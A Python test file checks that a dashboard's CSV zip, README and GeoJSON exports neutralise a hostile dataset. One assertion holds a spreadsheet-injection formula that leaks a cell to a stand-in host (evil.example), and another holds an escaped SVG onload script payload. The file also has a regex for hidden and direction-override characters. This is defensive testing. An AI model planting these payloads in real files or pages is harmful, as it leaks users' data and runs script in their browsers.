"""The hostile corpus exported: the dataset keeps the payloads; the downloads never run them."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from pathlib import Path

import pytest

from dashboard.dataset import read_dataset
from dashboard.exports import briefing_for, data_export
from dashboard.filters import filter_options, prepare
from dashboard.safe import SPREADSHEET_TRIGGERS
from ingest.tables import ALL_TABLES
from tests.hostile.hostile import HOSTILE_OPERATION, build_hostile_dataset

TEXT_COLUMNS = {
    table.name: [column.name for column in table.columns if column.dtype == "string"]
    for table in ALL_TABLES
}
HIDDEN = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069]")


@pytest.fixture(scope="module")
def hostile_dataset(tmp_path_factory) -> Path:
    return build_hostile_dataset(tmp_path_factory.mktemp("hostile"))


@pytest.fixture(scope="module")
def everything(hostile_dataset):
    """The briefing of every operation in the hostile dataset, as the dashboard makes it."""
    operations = filter_options(prepare(read_dataset(hostile_dataset))).operations
    return briefing_for(operations, hostile_dataset)


def formula_cells(tables: dict[str, str]) -> list[str]:
    """``table.column`` of each text cell a spreadsheet would run, one entry per cell."""
    return [
        f"{name}.{column}"
        for name, text in tables.items()
        for row in csv.DictReader(io.StringIO(text))
        for column in TEXT_COLUMNS.get(name, ())
        if (row.get(column) or "").startswith(SPREADSHEET_TRIGGERS)
    ]


def hidden_cells(tables: dict[str, str]) -> list[str]:
    return [
        f"{name}.{column}"
        for name, text in tables.items()
        for row in csv.DictReader(io.StringIO(text))
        for column in TEXT_COLUMNS.get(name, ())
        if HIDDEN.search(row.get(column) or "")
    ]


def dataset_tables(folder: Path) -> dict[str, str]:
    return {
        name: (folder / f"{name}.csv").read_text(encoding="utf-8")
        for name in TEXT_COLUMNS
        if (folder / f"{name}.csv").exists()
    }


def zip_tables(briefing) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(data_export.tables_zip(briefing))) as archive:
        return {
            name.removesuffix(".csv"): archive.read(name).decode("utf-8")
            for name in archive.namelist()
        }


def test_the_dataset_has_formulas_and_hidden_characters_and_the_zip_has_none(
    hostile_dataset, everything
):
    raw = dataset_tables(hostile_dataset)
    assert len(formula_cells(raw)) >= 4, "titles, outlets and quotes that start with = + @"
    assert len(hidden_cells(raw)) >= 3, "right-to-left overrides in titles, quotes, outlets"
    exported = zip_tables(everything)
    assert formula_cells(exported) == [] and hidden_cells(exported) == []
    titles = {row["title"] for row in csv.DictReader(io.StringIO(exported["articles"]))}
    assert '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click")' in titles


def test_the_zip_readme_names_the_hostile_operation_as_inert_text(everything):
    readme = zip_tables(everything)["README.md"]
    (line,) = [line for line in readme.splitlines() if line.startswith("Filters:")]
    assert "\\<svg onload=alert\\('op'\\)\\>" in line
    assert re.search(r"(?<!\\)[<>]", line) is None


def test_the_geojson_keeps_the_text_and_says_it_is_plain_text(everything):
    collection = json.loads(data_export.map_geojson(everything))
    properties = {feature["id"]: feature["properties"] for feature in collection["features"]}
    assert HOSTILE_OPERATION in properties["PER"]["roles"]
    assert "plain text" in collection["text"]
    assert not [p for p in properties.values() for v in p.values() if HIDDEN.search(str(v))]
